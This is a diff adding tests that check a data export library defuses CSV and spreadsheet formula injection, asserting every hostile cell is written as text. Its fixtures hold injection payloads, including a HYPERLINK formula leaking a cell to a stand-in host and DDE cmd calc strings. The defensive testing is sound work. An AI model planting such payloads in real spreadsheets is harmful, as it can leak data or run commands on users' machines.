@@ -75,3 +75,108 @@ def test_file_name_carries_filter_and_period():
     )
     many = Filter(categories=("a", "b", "c", "d", "e"))
     assert "category-a+b+c+2more" in exports.file_name("t", many, None, ext="csv")
+
+
+# Cells a spreadsheet would run (OWASP CSV injection), and what each must come out as.
+HOSTILE = {
+    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")': "'=HYPERLINK",
+    "+1+cmd|' /C calc'!A0": "'+1",
+    "-2+3": "'-2",
+    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM",
+    "\t=1+1": "'\t",
+    "\r=1+1": "'\r",
+    "  =1+1": "'  =",
+    "＝1+1": "'＝",
+}
+HARMLESS = ["张*", "http://evil.example/", "a=b", "1-2"]
+
+
+def hostile_frame() -> pl.DataFrame:
+    text = [*HOSTILE, *HARMLESS]
+    n = len(text)
+    return pl.DataFrame(
+        {
+            "description": text,
+            "delta": [-(i + 0.5) for i in range(n)],  # a negative number column stays numbers
+            "count": list(range(-n // 2, n - n // 2)),
+        }
+    )
+
+
+def assert_defused(values: list[str]) -> None:
+    for raw, start in HOSTILE.items():
+        assert ("'" + raw) in values and ("'" + raw).startswith(start)
+    assert all(h in values for h in HARMLESS)
+    assert not any(v[:1] in "=+-@\t\r＝" for v in values)
+
+
+def test_csv_cells_that_would_run_as_formulas_are_text():
+    text = exports.csv_bytes(hostile_frame()).decode("utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert_defused([r["description"] for r in rows])
+    assert [float(r["delta"]) for r in rows] == hostile_frame()["delta"].to_list()
+    # numbers are written unquoted, so a spreadsheet reads them as numbers
+    assert '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""点击查看"")",-0.5,-6\n' in text
+
+
+def test_xlsx_has_no_formula_no_link_and_numbers_stay_numbers():
+    flt = march(streets=('=HYPERLINK("http://evil.example","x")',))
+    data = exports.xlsx_bytes(hostile_frame(), flt=flt, window=flt.window(), sheet="t")
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
+    assert cells and all(c.data_type != "f" for c in cells)
+    assert all(c.hyperlink is None for c in cells)
+    table = book["t"]
+    header = [c.value for c in table[1]]
+    column = {
+        name: [row[i].value for row in table.iter_rows(min_row=2)] for i, name in enumerate(header)
+    }
+    # xlsx stores a carriage return as _x000D_, which openpyxl leaves as it is
+    assert_defused([v.replace("_x000D_", "\r") for v in column["description"]])
+    assert column["delta"] == hostile_frame()["delta"].to_list()
+    assert all(isinstance(v, int) for v in column["count"]) and min(column["count"]) < 0
+    about = {r[0].value: r[1].value for r in book["说明"].iter_rows()}
+    assert about["streets 街道"] == '\'=HYPERLINK("http://evil.example","x")'
+
+
+def test_the_import_report_csv_is_defused(tmp_path):
+    from data_layer.ingest.report import report_csv_bytes, write_report_csv
+
+    report = pl.DataFrame(
+        {
+            "row": [2, 3],
+            "column": ["事件类型", "=cmd|' /C calc'!A0"],
+            "value": ['=HYPERLINK("http://evil.example","x")', "-1"],
+            "severity": ["rejected", "rejected"],
+            "reason": ["unknown_value", "not_a_count"],
+            "message": ["m", "m"],
+        }
+    )
+    write_report_csv(report, tmp_path / "r.csv")
+    assert (tmp_path / "r.csv").read_bytes() == report_csv_bytes(report)
+    rows = list(csv.DictReader(io.StringIO(report_csv_bytes(report).decode("utf-8-sig"))))
+    assert [r["value"] for r in rows] == ['\'=HYPERLINK("http://evil.example","x")', "'-1"]
+    assert rows[1]["column"] == "'=cmd|' /C calc'!A0"
+    assert [r["row"] for r in rows] == ["2", "3"]
+
+
+def test_cli_csv_defuses_area_names(capsys, tmp_path):
+    from fixtures_tiny import tiny_tables
+
+    from data_layer.cli import main
+    from data_layer.storage.source import write_tables
+
+    tables = tiny_tables()
+    tables["streets"] = tables["streets"].with_columns(
+        pl.when(pl.col("street_code") == S1)
+        .then(pl.lit('=HYPERLINK("http://evil.example","x")'))
+        .otherwise(pl.col("name"))
+        .alias("name")
+    )
+    write_tables(tmp_path / "d", tables)
+    argv = ["kpis", "--data", str(tmp_path / "d"), "--by", "street", "--format", "csv"]
+    assert main([*argv, "--from", "2025-03-01", "--to", "2025-03-31"]) == 0
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    names = {r["code"]: r["name"] for r in rows}
+    assert names[S1] == '\'=HYPERLINK("http://evil.example","x")'
+    assert any(r["closure_rate.denominator"] not in ("", None) for r in rows)
